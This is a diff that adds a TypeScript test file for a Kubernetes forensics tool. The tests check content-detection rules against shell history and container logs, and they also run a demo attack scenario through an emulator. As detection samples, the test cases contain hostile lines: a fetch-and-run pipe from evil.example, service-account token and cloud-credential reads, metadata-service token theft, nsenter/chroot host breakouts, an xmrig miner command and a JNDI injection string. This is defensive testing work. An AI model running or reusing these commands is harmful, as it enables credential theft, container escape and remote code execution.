@@ -1,0 +1,144 @@
+// Content rules over shell history and log lines: each rule fires on a sample and stays silent on a
+// near miss; then the demo scenario collected through the real client against the emulator puts
+// the planted history and previous-log steps into suspiciouspods_CL, and nothing for the platform pods.
+import { after, before, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { mkdtemp, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join, resolve } from 'node:path';
+import { CONTENT_FINDINGS_PER_CONTAINER, CONTENT_RULES, ContainerContentScanner, contentFindings, contentHits, type ContentSource } from '../../../src/core/detections/index.js';
+import { startKubeEmulator, type KubeEmulator } from '../../emulators/kube/index.js';
+import { connectCluster } from '../../../src/core/cluster/connect.js';
+import type { ClusterApi } from '../../../src/core/cluster/api.js';
+import { COLLECTORS, createObjectCache } from '../../../src/core/collectors/index.js';
+import type { ArtifactId } from '../../../src/core/schema/artifacts.js';
+import { resolveOptions } from '../../../src/core/snapshot.js';
+import { suspiciousPods, type SuspiciousPodRow } from '../../../src/core/schema/tables.js';
+
+const ids = (source: ContentSource, text: string) => contentHits(source, text).map((h) => h.rule.id).sort();
+
+// [rule, source, fires, near miss]
+const CASES: [keyof typeof CONTENT_RULES, ContentSource, string, string][] = [
+  ['downloadExecute', 'history', 'curl -sL http://203.0.113.7/x.sh -o /tmp/x.sh', 'curl -sL https://example.com/data.json -o ./data.json'],
+  ['downloadExecute', 'history', 'chmod +x /tmp/x.sh && /tmp/x.sh', 'chmod +x ./build.sh'],
+  ['downloadExecute', 'history', 'wget -qO- http://evil.example/i.sh | sh', 'wget -qO- http://example.com/index.html | grep title'],
+  ['downloadExecute', 'history', 'chmod 755 /dev/shm/.k', 'chmod 644 /tmp/notes.txt'],
+  ['saToken', 'history', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token', 'cat /var/run/secrets/app/config.yaml'],
+  ['apiServer', 'history', 'curl -k https://kubernetes.default.svc/api/v1/namespaces -H "Authorization: Bearer $TOKEN"', 'curl http://web.prod-web.svc/healthz'],
+  ['apiServer', 'history', '/usr/local/bin/kubectl get secrets -A', 'vi kubectl.yaml'],
+  ['cloudCredentials', 'history', 'cat /host/etc/kubernetes/azure.json', 'cat /etc/kubernetes/manifests/README'],
+  ['imds', 'history', 'curl -H Metadata:true http://169.254.169.254/metadata/identity/oauth2/token', 'curl http://169.254.1.1/'],
+  ['hostBreakout', 'history', 'chroot /host', 'chroot /srv/build-root'],
+  ['hostBreakout', 'history', 'crictl ps', 'echo crictl-ps is documented'],
+  ['nsenter', 'history', 'nsenter -t 1 -m -u -i -n -p -- bash', 'nsenter --help'],
+  ['miner', 'history', './xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 4A...', 'grep miner /var/log/app.log'],
+  ['miner', 'history', '/tmp/kinsing &', 'ls /tmp'],
+  ['miner', 'log', ' * POOL #1      stratum+tcp://pool.supportxmr.com:3333 algo auto', 'connected to redis at 10.0.0.5:5555'],
+  ['rootOutput', 'log', 'uid=0(root) gid=0(root) groups=0(root)', 'uid=1000(app) gid=1000(app) groups=1000(app)'],
+  ['logDownload', 'log', 'wget http://203.0.113.7/kinsing -O /tmp/kinsing', '10.244.0.1 - - "GET /index.html HTTP/1.1" 200 612 "-" "curl/8.5.0"'],
+  ['deserialization', 'log', '\tat org.apache.commons.collections.functors.InvokerTransformer.transform(InvokerTransformer.java:125)', '\tat java.base/java.util.HashMap.hash(HashMap.java:338)'],
+  ['deserialization', 'log', 'GET /?q=${jndi:ldap://203.0.113.7/a} 200', 'GET /?q=${user.name} 200'],
+];
+
+for (const [rule, source, fires, nearMiss] of CASES) {
+  const id = CONTENT_RULES[rule].id;
+  test(`${id} (${source}) fires on ${JSON.stringify(fires).slice(0, 60)}, not on its near miss`, () => {
+    assert.ok(ids(source, fires).includes(id), `${id} on ${fires}: got ${ids(source, fires).join(', ')}`);
+    assert.ok(!ids(source, nearMiss).includes(id), `${id} must not fire on ${nearMiss}`);
+  });
+}
+
+test('history-only rules do not run over logs: a client library naming the token path is not a finding', () => {
+  assert.deepEqual(ids('log', 'loading in-cluster config from /var/run/secrets/kubernetes.io/serviceaccount/token'), []);
+  assert.deepEqual(ids('history', 'uid=0(root) gid=0(root)'), [], 'output patterns only apply to logs');
+});
+
+test('a finding carries the technique, its origin, its own time, and bounded one-line evidence', () => {
+  const text = `curl -k https://kubernetes.default.svc/api -H "Authorization: Bearer x"\n${'A'.repeat(5000)}`;
+  const [f] = contentFindings('history', text, { namespace: 'prod', pod: 'web-1', container: 'nginx', fieldPath: 'history:/root/.bash_history#5', eventTime: '2026-11-27T02:08:00.0000000Z' });
+  assert.ok(f);
+  assert.equal(f.ruleId, 'CONTENT-API-SERVER-ACCESS');
+  assert.equal(f.techniqueId, 'MS-TA9029');
+  assert.equal(f.techniqueName, 'Access the Kubernetes API server');
+  assert.deepEqual(f.resource, { kind: 'Pod', namespace: 'prod', name: 'web-1', container: 'nginx' });
+  assert.equal(f.fieldPath, 'history:/root/.bash_history#5');
+  assert.equal(f.eventTime, '2026-11-27T02:08:00.0000000Z');
+  assert.ok(f.fieldValue.length <= 512 && !f.fieldValue.includes('\n'));
+  assert.ok(!f.explanation.includes('\n'));
+});
+
+test('a noisy container yields at most the per-container cap of findings', () => {
+  const s = new ContainerContentScanner('log', { namespace: 'x', pod: 'p', container: 'c' });
+  let n = 0;
+  for (let i = 0; i < 100; i++) n += s.check('uid=0(root) gid=0(root)', `log:line ${i}`, null).length;
+  assert.equal(n, CONTENT_FINDINGS_PER_CONTAINER);
+  assert.equal(s.dropped, 100 - CONTENT_FINDINGS_PER_CONTAINER);
+});
+
+// ---- the demo scenario through the real client and the emulator ----
+
+let emu: KubeEmulator;
+let api: ClusterApi;
+let dir: string;
+const signal = new AbortController().signal;
+const silent = { info: () => undefined, warn: () => undefined, error: () => undefined };
+
+before(async () => {
+  emu = await startKubeEmulator({ scenario: resolve('test/emulators/kube/scenarios/demo.yaml') });
+  dir = await mkdtemp(join(tmpdir(), 'kfs-content-'));
+  await emu.writeKubeconfig(join(dir, 'kubeconfig.yaml'));
+  api = (await connectCluster({ kubeconfig: join(dir, 'kubeconfig.yaml'), signal })).api;
+});
+
+after(async () => {
+  await emu?.close();
+  if (dir) await rm(dir, { recursive: true, force: true });
+});
+
+async function findingsOf(artifact: ArtifactId): Promise<SuspiciousPodRow[]> {
+  const options = resolveOptions({ execEnabled: true, concurrency: 4, sinceSeconds: 0 });
+  const objects = createObjectCache(api, options);
+  const out: SuspiciousPodRow[] = [];
+  for await (const ev of COLLECTORS[artifact].collect({ cluster: api, objects, options, signal, log: silent })) {
+    if (ev.kind === 'row' && ev.table === suspiciousPods.name) out.push(ev.row as unknown as SuspiciousPodRow);
+  }
+  return out;
+}
+
+const steps = (rows: SuspiciousPodRow[], pod: string) => new Set(rows.filter((r) => r.PodName === pod).map((r) => `${r.RuleId} ${r.TechniqueId}`));
+
+test('demo: the attacker\'s shell history becomes findings with their techniques and command times', async () => {
+  const rows = await findingsOf('commandHistory');
+  const web = steps(rows, 'web-frontend-7d9f8b6c5d-x2k9p');
+  for (const want of ['CONTENT-DOWNLOAD-EXECUTE MS-TA9007', 'CONTENT-SA-TOKEN-READ MS-TA9016', 'CONTENT-API-SERVER-ACCESS MS-TA9029']) assert.ok(web.has(want), want);
+  const dbg = steps(rows, 'node-debugger');
+  for (const want of ['CONTENT-HOST-BREAKOUT MS-TA9013', 'CONTENT-CLOUD-CREDENTIALS MS-TA9026']) assert.ok(dbg.has(want), want);
+
+  const token = rows.find((r) => r.RuleId === 'CONTENT-SA-TOKEN-READ')!;
+  assert.equal(token.FieldPath, 'history:/root/.bash_history#4');
+  assert.equal(token.FieldValue, 'cat /var/run/secrets/kubernetes.io/serviceaccount/token');
+  assert.equal(token.ContainerName, 'nginx');
+  assert.equal(token.EventType, 'Finding');
+  assert.match(token.EventTime ?? '', /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{7}Z$/, 'the command\'s own (HISTTIMEFORMAT) time');
+  const dl = rows.find((r) => r.RuleId === 'CONTENT-DOWNLOAD-EXECUTE' && r.FieldPath.endsWith('#2'))!;
+  assert.ok(Date.parse(dl.EventTime!) < Date.parse(token.EventTime!), 'each finding keeps its own command time');
+  assert.ok(rows.every((r) => r.Namespace !== 'kube-system'), 'no content finding on kube-system pods');
+});
+
+test('demo: the restarted api-backend\'s PREVIOUS log shows the RCE; platform pods yield nothing', async () => {
+  const rows = await findingsOf('containerLogs');
+  const api = rows.filter((r) => r.PodName.startsWith('api-backend-'));
+  const got = new Set(api.map((r) => `${r.RuleId} ${r.TechniqueId}`));
+  for (const want of ['CONTENT-LOG-ROOT-ID MS-TA9009', 'CONTENT-LOG-RAW-IP-DOWNLOAD MS-TA9009', 'CONTENT-LOG-EXPLOIT-GADGET MS-TA9009']) assert.ok(got.has(want), want);
+  assert.ok(api.every((r) => r.FieldPath.startsWith('log(previous):line ')), 'the evidence is in the previous log');
+  const root = api.find((r) => r.RuleId === 'CONTENT-LOG-ROOT-ID')!;
+  assert.equal(root.FieldValue, 'uid=0(root) gid=0(root) groups=0(root)');
+  assert.equal(root.ContainerName, 'api');
+  // The miner job's own log is an attack step; every other kube-system pod is the platform's.
+  const platform = rows.filter((r) => r.Namespace === 'kube-system' && !r.PodName.startsWith('kube-metrics-sync-'));
+  assert.deepEqual(platform.map((r) => `${r.PodName}: ${r.FieldValue}`), []);
+  assert.ok(rows.some((r) => r.PodName.startsWith('kube-metrics-sync-') && r.RuleId === 'CONTENT-CRYPTO-MINER'));
+  const perContainer = new Map<string, number>();
+  for (const r of rows) perContainer.set(`${r.PodName}/${r.ContainerName}`, (perContainer.get(`${r.PodName}/${r.ContainerName}`) ?? 0) + 1);
+  assert.ok([...perContainer.values()].every((n) => n <= CONTENT_FINDINGS_PER_CONTAINER));
+});
